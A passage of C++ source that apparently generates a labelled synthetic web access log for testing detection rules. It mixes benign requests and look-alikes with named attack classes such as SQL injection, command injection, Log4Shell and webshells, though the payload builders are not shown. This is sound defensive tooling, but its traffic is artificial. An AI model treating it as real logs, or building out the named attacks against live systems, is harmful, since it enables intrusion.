        "/odata/Orders?$select=Id,Total&$expand=Items&$skip=20",
        "/api/v1/products?filter[price][min]=1000&filter[price][max]=5000",
        "/api/v1/products?filter[color]=red&filter[size][]=M",
        "/api/v1/events?d=" + enc_full("{\"$oid\":\"650f1c2e9b1e8a0012345678\"}", false),
        "/api/v1/search?filter=" +
            enc_full("{\"name\":\"gift (large)\",\"price\":\"<$50\"}", false),
        "/api/v1/cart?items=" + enc_full("[{\"sku\":\"SKU-12\",\"qty\":1}]", false),
        "/calc?expr=" + enc_full("(1200*3)-(500)", false),
    };
    q.target = g.any(api);
    q.agent = g.chance(0.5) ? "ShopApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)" : q.agent;
  } else if (r < 0.85) {
    const std::string b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    const List tokens = {
        "/img/thumb?src=" +
            enc_full(
                "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
                "YPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
                false),
        "/img/thumb?src=" +
            enc_full(
                "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7",
                false),
        "/api/v1/user?token=" + enc_full(g.token(48, b64) + "==", false),
        "/account/verify?t=" + g.token(43, b64.substr(0, 62) + "-_"),
        "/aspnet/page.aspx?__VIEWSTATE=%2FwEPDwUKMTY3NzkyNjc4M2Rk" + g.alnum(20),
        "/api/v1/session?jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + g.alnum(40) + "." +
            g.alnum(43),
        "/download?sig=" + g.token(64, "0123456789abcdef"),
        "/s?ref=" + g.token(22, b64),
    };
    q.target = g.any(tokens);
  } else {
    const List misc = {
        "/cms/preview?html=" +
            enc_full("<!-- banner start --><h2>Sale</h2><!-- banner end -->", false),
        "/cms/preview?html=" + enc_full("<!-- #main --><p>Spring (2026)</p>", false),
        "/products/tees-(white)-(m)",
        "/image/resize?src=//cdn.shop.example.jp/p/123.jpg&w=300",
        "/share?url=https%3A%2F%2Fshop.example.jp%2F%3Fa%3D1%26b%3D2",
        "/account/login?next=https%253A%252F%252Fshop.example.jp%252Fcart",
        "/news/index.shtml",
        "/guestbook.shtml?page=2",
        "/products/tees?ratio=16:9&color=%23ff0000",
        "/help?topic=" + enc_full("returns (within 30 days)", false),
        "/search?q=" + enc_full("日本茶 (100g)", false),
        "/directory/search?name=" + enc_full("Sato*", false),
    };
    q.target = g.any(misc);
  }
  return q;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"Writes a labelled access log (combined format) for rule evaluation."};
  uint64_t seed = 1;
  int benign_count = 24000;
  int per_class = 160;
  int lookalikes = 1000;
  std::string dir = ".";
  app.add_option("--seed", seed, "random seed");
  app.add_option("--benign", benign_count, "benign requests");
  app.add_option("--per-class", per_class, "attack requests per class");
  app.add_option("--lookalikes", lookalikes,
                 "benign look-alikes of the later classes, added to --benign");
  app.add_option("--out", dir, "output folder (access.log, labels.tsv)");
  CLI11_PARSE(app, argc, argv);

  Gen g(seed);
  const std::vector<AttackClass> classes = {
      {"sqli", sqli, per_class * 2},
      {"xss", xss, per_class * 2},
      {"traversal_lfi", traversal, per_class * 2},
      {"rfi", rfi, per_class},
      {"command_injection", cmdi, per_class * 2},
      {"ssti", ssti, per_class},
      {"xxe", xxe, per_class / 2},
      {"ssrf", ssrf, per_class},
      {"log4shell", log4shell, per_class},
      {"struts_ognl", ognl, per_class / 2},
      {"spring4shell", spring, per_class / 2},
      {"shellshock", shellshock, per_class / 2},
      {"webshell", webshell, per_class},
      {"scanner", scanner, per_class},
      {"sensitive_file", sensitive, per_class},
      {"wordpress_xmlrpc", xmlrpc, per_class / 2},
  };
  struct Item {
    Request req;
    std::string label;
    bool later = false;  // drawn from `later` below
  };
  std::vector<Item> items;
  for (const AttackClass& c : classes)
    for (int i = 0; i < c.count; ++i) items.push_back({c.make(g), c.name});
  for (int i = 0; i < benign_count; ++i) items.push_back({benign(g), "benign"});
  // A stable shuffle from the same generator keeps the output a function of the seed.
  for (size_t i = items.size(); i > 1; --i) std::swap(items[i - 1], items[g.pick(i)]);

  // Classes added later, and benign look-alikes of them, come from a generator of
  // their own and are placed between the lines above without drawing from `g`
  // (nor advancing the clock): every earlier line keeps its text, address and time
  // for a seed, so figures measured before these classes stay comparable.
  Gen later(seed ^ 0x6c61746572636c73ULL);
  const std::vector<AttackClass> later_classes = {
      {"ssi_injection", ssi, per_class / 2},  {"ldap_injection", ldapi, per_class},
      {"xpath_injection", xpathi, per_class}, {"crlf_injection", crlf, per_class},
      {"nosql_injection", nosqli, per_class}, {"deserialization", deser, per_class},
  };
  std::vector<std::pair<uint64_t, Item>> added;
  for (const AttackClass& c : later_classes)
    for (int i = 0; i < c.count; ++i) added.push_back({0, {c.make(later), c.name, true}});
  for (int i = 0; i < lookalikes; ++i)
    added.push_back({0, {benign_lookalike(later), "benign", true}});
  for (auto& a : added) a.first = later.pick(items.size() + 1);
  std::stable_sort(added.begin(), added.end(),
                   [](const auto& a, const auto& b) { return a.first < b.first; });
  {
    std::vector<Item> merged;
    merged.reserve(items.size() + added.size());
    size_t k = 0;
    for (size_t i = 0; i <= items.size(); ++i) {
      for (; k < added.size() && added[k].first == i; ++k)
        merged.push_back(std::move(added[k].second));
      if (i < items.size()) merged.push_back(std::move(items[i]));
    }
    items = std::move(merged);
  }

  std::FILE* log = std::fopen((dir + "/access.log").c_str(), "w");
  std::FILE* labels = std::fopen((dir + "/labels.tsv").c_str(), "w");
  if (!log || !labels) {
    std::fprintf(stderr, "cannot write to %s\n", dir.c_str());
    return 2;
  }
  static const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                  "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  int64_t now = 1773270000;  // 2026-03-11T23:00:00Z, written as +09:00 local time
  std::vector<std::string> clients(800);
  for (auto& c : clients) c = g.ip();
  uint64_t line = 0;
  for (const Item& it : items) {
    Gen& r = it.later ? later : g;
    if (!it.later) now += static_cast<int64_t>(g.pick(3));
    const int64_t local = now + 9 * 3600;
    int y, m, d;
    shodo::ingest::civil_from_days(local / 86400, y, m, d);
    const int64_t sod = local % 86400;
    const Request& q = it.req;
    const std::string ip = it.label == "benign" ? clients[r.pick(clients.size())] : r.ip();
    const std::string bytes =
        q.bytes ? std::to_string(q.bytes) : std::to_string(200 + r.pick(9000));
    // Apache escapes '"' and '\' in logged header values.
    auto header = [](const std::string& v) {
      return replace_all(replace_all(v, "\\", "\\\\"), "\"", "\\\"");
    };
    fmt::print(
        log,
        "{} - - [{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n",
        ip, d, kMonths[m - 1], y, sod / 3600, sod / 60 % 60, sod % 60, q.method, q.target, q.status,
        bytes, header(q.referer), header(q.agent));
    fmt::print(labels, "{}\t{}\n", ++line, it.label);
  }
  std::fclose(log);
  std::fclose(labels);
  return 0;
}
